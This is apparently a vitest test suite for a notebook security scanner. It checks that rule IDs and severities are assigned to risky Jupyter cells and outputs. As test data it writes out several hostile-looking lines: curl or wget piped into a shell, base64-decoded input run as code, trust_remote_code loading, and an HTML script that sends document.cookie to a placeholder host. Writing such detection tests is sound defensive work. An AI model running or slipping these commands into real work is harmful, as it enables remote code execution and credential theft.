import { describe, expect, test } from 'vitest';
import { utf8 } from '#formats/test-files/bytes';
import { scanBytes } from '../test-scan.ts';

interface CellShape {
  readonly source: string | string[];
  readonly kind?: string;
  readonly outputs?: readonly unknown[];
}

const notebook = (cells: readonly CellShape[], language = 'python') =>
  JSON.stringify(
    {
      cells: cells.map(({ source, kind = 'code', outputs = [] }) => ({ cell_type: kind, source, metadata: {}, outputs })),
      metadata: { kernelspec: { language, name: 'x' } },
      nbformat: 4,
      nbformat_minor: 5,
    },
    null,
    1,
  );

const scan = (cells: readonly CellShape[], language?: string) => scanBytes(utf8(notebook(cells, language)), 'x.bin');
const levels = (cells: readonly CellShape[], language?: string) =>
  scan(cells, language).observations.map(({ ruleId, severity }) => `${ruleId} ${severity}`);

describe('cells', () => {
  test.each([
    ['a shell pipe', '!curl -s https://x/y.sh | bash', 'MDL-DEV-013 high'],
    ['a shell cell', '%%bash\nwget https://x/y.sh -O y.sh && sh y.sh', 'MDL-DEV-013 high'],
    ['decoded text', '!echo aWQ= | base64 -d | sh', 'MDL-DEV-013 high'],
    ['packages', '%pip install transformers', 'MDL-DEV-014 low'],
    ['a package from an address', '!pip install git+https://github.com/x/y', 'MDL-REQ-002 medium'],
    ['another index', '!pip install --extra-index-url https://x/simple y==1', 'MDL-REQ-003 medium'],
    ['a model', '!huggingface-cli download org/model', 'MDL-DEV-002 low'],
    ['an unsafe load', 'import torch\nm = torch.load("x.pt")', 'MDL-DEV-005 medium'],
    [
      'trusted code',
      'from transformers import AutoModel\nm = AutoModel.from_pretrained("o/m", trust_remote_code=True)',
      'MDL-DEV-003 high',
    ],
    ['decoded code', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))', 'MDL-PY-001 critical'],
    ['a script cell', '%%javascript\nfetch("https://x")', 'MDL-DEV-015 medium'],
    ['a written module', '%%writefile x.py\nimport torch\ntorch.load("x")', 'MDL-DEV-005 medium'],
    ['a magic in front of Python', '%time m = __import__("torch").load("x")', 'MDL-DEV-005 medium'],
  ])('%s is told', (_name, source, expected) => {
    expect(levels([{ source }])).toContain(expected);
  });

  test('what a notebook does of its own is no alarm: commands, requests, files', () => {
    const source =
      '%matplotlib inline\nimport os, requests, pickle\n!ls -la\nfiles = !ls\nx?\nr = requests.get("https://x/y.csv")\nopen("out.csv", "w").write(r.text)\nif x:\n    !mkdir y\n';
    expect(['clean', 'info', 'low']).toContain(scan([{ source }]).verdict);
  });

  test('names go from cell to cell, and the finding leads to the line of its cell', () => {
    const cells = [
      { source: 'import base64 as b\nd = b.b64decode' },
      { source: '# text', kind: 'markdown' },
      { source: ['x = 1\n', 'exec(d("cHJpbnQoMSk="))'] },
    ];
    const [found] = scan(cells).observations.filter(({ ruleId }) => ruleId === 'MDL-PY-001');
    expect(found?.location.pointer).toBe('/cells/2/source/1');
    const bytes = utf8(notebook(cells)).subarray(found?.location.offset, (found?.location.offset ?? 0) + (found?.location.length ?? 0));
    expect(JSON.parse(Buffer.from(bytes).toString())).toBe('exec(d("cHJpbnQoMSk="))');
  });

  test('a notebook of another language is searched for its outputs alone', () => {
    expect(levels([{ source: 'system("id") <- x' }], 'R')).toEqual([]);
  });
});

describe('outputs', () => {
  const output = (kind: string, text: string | string[]) => [
    { source: '1', outputs: [{ output_type: 'display_data', data: { [kind]: text } }] },
  ];

  test.each([
    ['a script for the kernel', 'text/html', ['<script>', 'Jupyter.notebook.kernel.execute("x")</script>'], 'MDL-DEV-015 high'],
    ['a script that sends', 'text/html', '<script>fetch("https://x?"+document.cookie)</script>', 'MDL-DEV-015 medium'],
    ['a script that draws', 'text/html', '<script>draw()</script>', 'MDL-DEV-015 low'],
    ['a printed key', 'text/plain', 'hf_Zq8vN4kW2mT7pJ1pL9rBaQeR5u', 'MDL-DEV-012 high'],
  ])('%s is told', (_name, kind, text, expected) => {
    expect(levels(output(kind, text))).toContain(expected);
  });

  test('tables and pictures are no active content', () => {
    expect(levels(output('text/html', '<table><tr><td>1</td></tr></table>'))).toEqual([]);
    expect(levels(output('image/png', 'iVBORw0KGgo='))).toEqual([]);
  });
});
